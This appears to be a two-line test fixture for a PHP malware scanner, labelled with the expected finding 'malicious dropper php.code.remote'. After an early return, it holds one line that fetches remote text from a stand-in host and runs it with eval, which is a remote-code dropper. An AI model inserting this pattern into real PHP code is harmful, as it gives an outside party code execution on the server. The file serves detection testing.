<?php return; // want: malicious dropper php.code.remote
eval(file_get_contents('http://203.0.113.9/next.txt'));
